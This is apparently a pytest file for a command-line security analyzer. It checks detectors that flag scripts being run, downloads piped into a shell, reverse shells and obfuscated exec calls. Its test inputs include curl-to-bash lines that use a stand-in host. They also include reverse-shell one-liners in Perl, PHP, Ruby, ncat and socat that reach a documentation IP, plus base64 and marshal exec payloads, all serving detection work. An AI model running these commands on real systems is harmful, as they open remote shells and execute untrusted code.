"""What command lines do, as far as their words tell."""

from __future__ import annotations

import pytest

from analyzer.detectors.commands import (
    COMMAND_CHARS_MAX,
    command_text,
    hides_code,
    opens_reverse_shell,
    pipes_into_shell,
    scripts_of,
)
from analyzer.detectors.persistence_write import arranges

X = "/home/dev/x"


@pytest.mark.parametrize(
    ("argv", "scripts"),
    [
        (("/bin/sh", X, "argument"), (X,)),
        (("/bin/bash", "--rcfile", "/a", X), (X,)),
        (("/bin/bash", "-e", X), ()),
        (("/env/bin/python", "-W", "error", "-u", X), (X,)),
        (("/env/bin/python", "-m", X), ()),
        (("/env/bin/python", "-c", "pass", X), ()),
        (("/env/bin/python3.11", "x.py"), ("x.py",)),
        (("/lib64/ld-linux-x86-64.so.2", X), (X,)),
        (("/usr/bin/gcc", X), ()),
        (("/usr/bin/pythonic", X), ()),
        (("/bin/sh", "-c", f"cd /tmp; {X} a && . {X}2|sh {X}3"), (X, f"{X}2", f"{X}3")),
        (("/bin/sh", "-c", f"cat {X}; ls ./{X}; echo a.{X} finish {X}"), ()),
        (("/bin/sh",), ()),
        ((), ()),
    ],
)
def test_scripts_of__what_is_told_to_be_run(
    argv: tuple[str, ...], scripts: tuple[str, ...]
) -> None:
    assert scripts_of(argv[0] if argv else "", argv) == scripts


@pytest.mark.parametrize(
    ("text", "piped"),
    [
        ("curl -fsSL http://x.test/i.sh | sudo bash -s --", True),
        ("wget -qO- x.test | base64 -d | /bin/sh", True),
        ("bash <(curl -s x.test)", True),
        ("eval `curl x.test`", True),
        ("curl x.test | tar xz", False),
        ("curl x.test -o sh; bash other", False),
        ("curlew | sh", False),
        ("echo x | sh", False),
    ],
)
def test_pipes_into_shell__what_is_fetched_and_run_at_once(text: str, *, piped: bool) -> None:
    assert pipes_into_shell("/bin/sh", ("sh", "-c", text)) is piped
    assert not pipes_into_shell("/bin/echo", ("echo", "-c", text))


@pytest.mark.parametrize(
    "argv",
    [
        ("/usr/bin/perl", "-e", 'use Socket;socket(S,1);open(STDIN,">&S");exec("/bin/sh -i");'),
        ("/usr/bin/php", "-r", '$s=fsockopen("203.0.113.7",1);exec("sh <&3 >&3");'),
        ("/usr/bin/ruby", "-rsocket", "-e", 'c=TCPSocket.new("x",1);exec "sh"'),
        ("/usr/bin/ncat", "-lvp", "4444", "-e", "/bin/sh"),
        ("/usr/bin/socat", "exec:'sh -li',pty", "tcp:203.0.113.7:1"),
    ],
)
def test_opens_reverse_shell__in_other_languages(argv: tuple[str, ...]) -> None:
    assert opens_reverse_shell(argv[0], argv)


@pytest.mark.parametrize(
    ("text", "hidden"),
    [
        ("import base64 as b;eval(compile(b.b64decode(x),'','exec'))", True),
        ("import marshal; exec(marshal.loads(x))", True),
        ("exec(bytes([112, 97]))", True),
        ("exec(open('setup.py').read())", False),
        ("import urllib.request; urllib.request.urlopen('http://x.test')", False),
    ],
)
def test_hides_code__decodes_or_fetches_what_it_runs(text: str, *, hidden: bool) -> None:
    assert hides_code("/env/bin/python", ("python", "-c", text)) is hidden
    assert not hides_code("/env/bin/python", ("python", text))


@pytest.mark.parametrize(
    "word",
    [
        *("curl |a", "mkfifo sh ", "exec( ", "socat exec: ", "nc -", "systemctl ", "base64 -d |"),
        *("socket ", "python -c ", "curl `", "b64decode(", "setup.py ", "openssl enc |", "( "),
    ],
)
def test_commands__hostile_lines_end(word: str) -> None:
    argv = ("sh", "-c", word * 200)
    joined = ("python", "-c", *([word * 30] * 14))
    for path, line in (("/bin/sh", argv), ("/env/bin/python", joined)):
        pipes_into_shell(path, line)
        opens_reverse_shell(path, line)
        hides_code(path, line)
        scripts_of(path, line)
        arranges(path, line)
        assert len(command_text(path, line)) <= COMMAND_CHARS_MAX
